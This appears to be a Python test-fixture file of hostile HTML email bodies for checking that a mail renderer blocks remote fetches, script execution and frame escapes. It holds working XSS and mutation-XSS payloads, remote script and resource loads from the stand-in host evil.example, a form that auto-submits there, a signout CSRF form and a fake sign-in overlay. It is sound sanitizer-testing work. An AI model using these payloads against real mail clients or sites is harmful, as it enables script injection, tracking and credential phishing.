"""Mails that try to load resources, run scripts, navigate, or escape their frame."""

from __future__ import annotations

HOST = "https://evil.example"
"""Nothing listens there; a request to it fails the test."""

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>{}</svg>"

FETCHES = {
    "image": f"<img src={HOST}/a>",
    "image without a scheme": "<img src=//evil.example/a>",
    "srcset": f"<img srcset='{HOST}/a 1x, {HOST}/b 2x'>",
    "picture": f"<picture><source srcset={HOST}/a><img src={HOST}/b></picture>",
    "background attribute": f"<table background={HOST}/a><tr><td background={HOST}/b>x</table>",
    "body background": f"<body background={HOST}/a>x",
    "style background": f"<p style='background:url({HOST}/a)'>x</p>",
    "style with escapes": "<p style='background:u\\72l(//evil.example/a)'>x</p>",
    "style list image": f"<ul style='list-style:url({HOST}/a)'><li>x</ul>",
    "style image-set": f'<p style="background-image:image-set(&quot;{HOST}/a&quot; 1x)">x</p>',
    "style cursor": f"<p style='cursor:url({HOST}/a),auto'>x</p>",
    "style content": f"<style>p::before{{content:url({HOST}/a)}}</style><p>x</p>",
    "style import": f"<style>@import '{HOST}/a.css';</style>",
    "style font": (
        f"<style>@font-face{{font-family:f;src:url({HOST}/f)}}p{{font-family:f}}</style><p>x"
    ),
    "style in a comment": f"<style><!-- --></style><style>*{{background:url({HOST}/a)}}</style>",
    "style with more escapes": (
        f"<style>@\\69mport '{HOST}/a';p{{background:u\\72l({HOST}/b)}}</style>"
        f"<p style='background:\\75rl({HOST}/c)'>x"
    ),
    "style with an image set": f"<style>p{{background:image-set('{HOST}/a' 1x)}}</style><p>x",
    "style with a new font": (
        f"<style>@font-face{{font-family:f;src:url({HOST}/a)}}p{{font-family:f}}</style><p>x"
    ),
    "stylesheet": f"<link rel=stylesheet href={HOST}/a.css>",
    "preload": f"<link rel=preload as=image href={HOST}/a>",
    "prefetch": f"<link rel=prefetch href={HOST}/a><link rel=dns-prefetch href={HOST}>",
    "preconnect": f"<link rel=preconnect href={HOST}>",
    "icon": f"<link rel=icon href={HOST}/a>",
    "manifest": f"<link rel=manifest href={HOST}/a>",
    "base": f"<base href={HOST}/><img src=a>",
    "frame": f"<iframe src={HOST}/a></iframe>",
    "frame with a document": (
        f'<iframe srcdoc="<img src={HOST}/a><script>alert(1)</script>"></iframe>'
    ),
    "frameset": f"<frameset><frame src={HOST}/a></frameset>",
    "object": f"<object data={HOST}/a></object>",
    "embed": f"<embed src={HOST}/a>",
    "applet": f"<applet code={HOST}/a archive={HOST}/b></applet>",
    "audio": f"<audio src={HOST}/a autoplay></audio>",
    "video": f"<video poster={HOST}/a src={HOST}/b autoplay><track src={HOST}/c default></video>",
    "input image": f"<input type=image src={HOST}/a>",
    "svg image": _SVG.format(f"<image href='{HOST}/a' xlink:href='{HOST}/b'/>"),
    "svg feImage": _SVG.format(
        f"<filter id=f><feImage href='{HOST}/a'/></filter><g filter='url(#f)'/>"
    ),
    "svg use": _SVG.format(f"<use href='{HOST}/a#x'/>"),
    "svg style": _SVG.format(f"<style>@import '{HOST}/a';</style>"),
    "svg foreign object": _SVG.format(f"<foreignObject><iframe src='{HOST}/a'/></foreignObject>"),
    "math": f"<math href={HOST}/a><mtext><img src={HOST}/b></mtext></math>",
    "noscript": f"<noscript><img src={HOST}/a></noscript>",
    "template": f"<template><img src={HOST}/a></template>",
    "portal": f"<portal src={HOST}/a></portal>",
    "ping": f"<a href=https://a.example ping={HOST}/a>x</a>",
    "html after the end": f"</body></html><img src={HOST}/a>",
}

RUNS = {
    "script": "<script>alert(1)</script>",
    "script of another host": f"<script src={HOST}/a.js></script>",
    "module": f"<script type=module>import '{HOST}/a.js'</script>",
    "image error": "<img src=x onerror=alert(1)>",
    "body load": "<body onload=alert(1)>",
    "svg load": _SVG.format("<script>alert(1)</script>").replace("<svg", "<svg onload=alert(1)"),
    "svg animate": _SVG.format("<a><animate attributeName=href values=javascript:alert(1)>x</a>"),
    "details toggle": "<details open ontoggle=alert(1)>x</details>",
    "focus": "<input autofocus onfocus=alert(1)><a autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "animation": (
        "<style>@keyframes k{}</style>"
        "<p style='animation:k 1s' onanimationstart=alert(1)>x"
    ),
    "javascript frame": "<iframe src=javascript:alert(1)></iframe>",
    "data frame": "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "mutation by math": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
    ),
    "mutation by svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by comment": (
        "<!--><img src=x onerror=alert(1)>--><!-- --!>"
        "<img src=x onerror=alert(1)>"
    ),
    "attribute without quotes": "<p title=`><img/src=x/onerror=alert(1)>`>x",
    "null in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x o\x00nerror=alert(1)>",
    "entity in a scheme": "<a href='java&#10;script:alert(1)' autofocus>x</a>",
    "style expression": "<p style='width:expression(alert(1));behavior:url(#x)'>x</p>",
    "xml": (
        "<?xml-stylesheet href='javascript:alert(1)'?><xml>"
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script></xml>"
    ),
}  # fmt: skip

NAVIGATES = {
    "refresh": f"<meta http-equiv=refresh content='0;url={HOST}/a'>",
    "refresh to script": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "policy": (
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
        "<script>alert(1)</script>"
    ),
    "form": (
        f"<form action={HOST}/a><input autofocus><button>go</button></form>"
        "<script>document.forms[0].submit()</script>"
    ),
    "form of ours": "<form method=post action=/signout id=f></form><button form=f>x</button>",
    "top": (
        "<script>top.location='https://evil.example'</script>"
        "<a href=https://evil.example target=_top>x</a>"
    ),
    "base target": f"<base target=_top href={HOST}><a href=a>x</a>",
    "anchor": "<a href=#reading target=_parent>x</a><a href=/signout target=_parent>y</a>",
    "overlay": (
        "<div style='position:fixed;inset:0;z-index:999;background:red'>Sign in: <input>"
        "</div>"
    ),
}  # fmt: skip

HOSTILE = {**FETCHES, **RUNS, **NAVIGATES}
